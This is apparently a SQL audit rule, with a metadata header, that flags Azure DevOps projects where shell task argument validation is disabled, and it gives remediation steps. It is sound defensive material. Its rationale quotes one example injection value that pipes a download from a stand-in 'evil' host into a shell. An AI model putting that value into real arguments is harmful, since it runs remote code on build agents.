/*
id: pipeline.shell_args_sanitizing
title: Shell task arguments are not validated
severity: medium
resource_type: pipeline_settings
description: >
  A project does not turn on "Enable shell tasks arguments validation" (enableShellTasksArgsSanitizing), so
  built-in tasks that run shell commands (Bash, PowerShell, CmdLine, ...) pass their arguments on without
  checking them for command separators. Audit mode alone (enableShellTasksArgsSanitizingAudit) only logs.
  Source: learn.microsoft.com/azure/devops/pipelines/security/inputs#shellTasksArgsValidation.
rationale: >
  Arguments often contain variables a user can set at queue time or that come from a pull request; without
  validation a value like "x; curl evil | sh" runs as a command on the agent (command injection).
remediation: >
  Project settings > Pipelines > Settings: turn on "Enable shell tasks arguments validation" (try the audit
  mode first to see which pipelines would break).
anchors:
  psrule: [Azure.DevOps.Pipelines.Settings.SanitizeShellTaskArguments]
  owasp: [CICD-SEC-4]
requires: [pipeline_settings]
*/
SELECT
    organization,
    resource_id,
    project_name AS resource_name,
    project_name,
    'Project "' || project_name || '" does not validate the arguments of shell tasks'
        || CASE WHEN coalesce(enable_shell_tasks_args_sanitizing_audit, FALSE) THEN ' (audit mode only)' ELSE '' END
        AS message
FROM azure_devops.pipeline_settings
WHERE NOT coalesce(enable_shell_tasks_args_sanitizing, FALSE)
